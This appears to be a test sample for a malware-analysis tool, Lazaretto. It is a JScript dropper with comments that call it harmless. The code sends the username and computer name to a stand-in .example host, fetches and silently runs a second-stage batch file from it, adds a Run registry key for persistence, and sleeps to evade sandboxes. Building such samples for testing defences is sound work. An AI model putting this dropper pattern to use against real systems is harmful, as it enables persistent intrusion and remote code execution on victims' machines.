// A harmless sample that behaves like the first stage of an infection, for trying Lazaretto out.
//
// What it does, step by step, is what a mailed "invoice" script does: it looks at who it runs as, leaves a copy of itself
// where the session starts it again, fetches a second stage, and starts that. What makes it harmless: the only address it
// asks is in the domain .example, which belongs to nobody and never resolves, so on a real computer there is no second
// stage; and the file it would leave behind only prints a line. It uses the Windows script host's own objects, nothing
// else. samples/README.md says how to undo it, should anybody double-click it on Windows.

var shell = new ActiveXObject("WScript.Shell");
var files = new ActiveXObject("Scripting.FileSystemObject");

var home = shell.ExpandEnvironmentStrings("%APPDATA%");
var who = shell.ExpandEnvironmentStrings("%USERNAME%@%COMPUTERNAME%");

// 1. Drop a file and let every log-on start it.
var helper = home + "\\LazarettoSample.bat";
var dropped = files.CreateTextFile(helper, true);
dropped.WriteLine("@echo This is a harmless sample of Lazaretto.");
dropped.Close();
shell.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\LazarettoSample", "\"" + helper + "\"", "REG_SZ");

// 2. Wait, as such scripts do to outlast an impatient sandbox.
WScript.Sleep(90000);

// 3. Fetch the second stage, telling the server who asks, and start it.
try {
    var request = new ActiveXObject("MSXML2.XMLHTTP");
    request.open("GET", "http://files.invoice-portal.example/update.bat?id=" + escape(who), false);
    request.send();
    if (request.status === 200) {
        var second = home + "\\LazarettoSampleUpdate.bat";
        var stage = files.CreateTextFile(second, true);
        stage.Write(request.responseText);
        stage.Close();
        shell.Run("cmd.exe /c \"" + second + "\"", 0, true);
    }
} catch (unreachable) {
    // On a real computer it always ends here.
}

// 4. Start what was dropped.
shell.Run("cmd.exe /c \"" + helper + "\"", 0, true);
